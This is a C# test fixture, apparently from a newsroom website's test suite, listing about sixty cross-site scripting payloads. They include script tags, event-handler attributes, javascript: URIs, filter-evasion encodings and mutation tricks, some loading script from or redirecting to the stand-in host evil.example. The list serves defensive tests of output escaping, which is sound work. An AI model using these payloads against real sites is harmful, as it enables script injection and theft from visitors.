namespace DaiHoi.Web.Tests.Newsroom.Desk;

/// <summary>Texts that try to become code where they are shown: of different kinds, in different disguises.</summary>
internal static class HostileTexts
{
    // "!" stands for what would run.
    private static readonly string[] Kinds =
    [
        "<script>!</script>",
        "<script src=//evil.example/x.js></script>",
        "<script>!",
        "<scr<script>ipt>!</scr</script>ipt>",
        "</title><script>!</script>",
        "</textarea><script>!</script>",
        "</script><script>!</script>",
        "--><script>!</script><!--",
        "]]><script>!</script>",
        "\"><script>!</script>",
        "'><script>!</script>",
        "<img src=x onerror=!>",
        "<img src=x onerror=\"!\"",
        "<img/src=x/onerror=!>",
        "<img src=\"x` `<script>!</script>\"` `>",
        "<svg onload=!>",
        "<svg><script>!</script></svg>",
        "<svg><animate onbegin=! attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:!\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=!&gt;\">",
        "<noscript><p title=\"</noscript><img src=x onerror=!>\">",
        "<template><script>!</script></template>",
        "<iframe src=\"javascript:!\"></iframe>",
        "<iframe srcdoc=\"<script>!</script>\"></iframe>",
        "<object data=\"data:text/html,<script>!</script>\"></object>",
        "<embed src=\"javascript:!\">",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:!\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<form action=//evil.example><button>x</button></form>",
        "<button formaction=\"javascript:!\">x</button>",
        "<input autofocus onfocus=!>",
        "<details open ontoggle=!>",
        "<video><source onerror=!></video>",
        "<body onload=!>",
        "<a href=\"javascript:!\">x</a>",
        "<a href=\" &#14; javascript:!\">x</a>",
        "<a href=\"java\tscript:!\">x</a>",
        "<a href=\"JaVaScRiPt:!\">x</a>",
        "<a href=\"&#106;avascript:!\">x</a>",
        "<a href=\"data:text/html,<script>!</script>\">x</a>",
        "<a href=\"vbscript:!\">x</a>",
        "<p style=\"background:url(javascript:!)\">x</p>",
        "<p onclick=! onmouseover=!>x</p>",
        "<table background=\"javascript:!\"><td>x</td></table>",
        "[x](javascript:!)",
        "![x](javascript:! \"y\")",
        "<javascript:!>",
        "\" onmouseover=\"!",
        "' onmouseover='!",
        "` onmouseover=`!",
        "{{constructor.constructor('!')()}}",
        "${!}",
        "\u2028!\u2029",
        "<\u0000script>!</script>",
        "\uFF1Cscript\uFF1E!\uFF1C/script\uFF1E",
        "&lt;script&gt;!&lt;/script&gt;",
        "%3Cscript%3E!%3C/script%3E",
        "<p id=\"content\" name=\"cookie\">x</p>",
    ];

    public static IReadOnlyList<string> All { get; } =
    [
        .. Kinds.Select(kind => Armed(kind, "alert(1)")),
        .. Kinds.Select(kind => "Đại hội điểm " + Armed(kind, "alert`1`") + " ở Lộc Ninh"),
        .. Kinds.Select(kind => Armed(kind.ToUpperInvariant(), "ALERT(1)")),
        .. Kinds.Select(kind => Armed(kind, "location='//evil.example'") + Armed(kind, "alert(2)")),
    ];

    private static string Armed(string kind, string code) => kind.Replace("!", code, StringComparison.Ordinal);
}
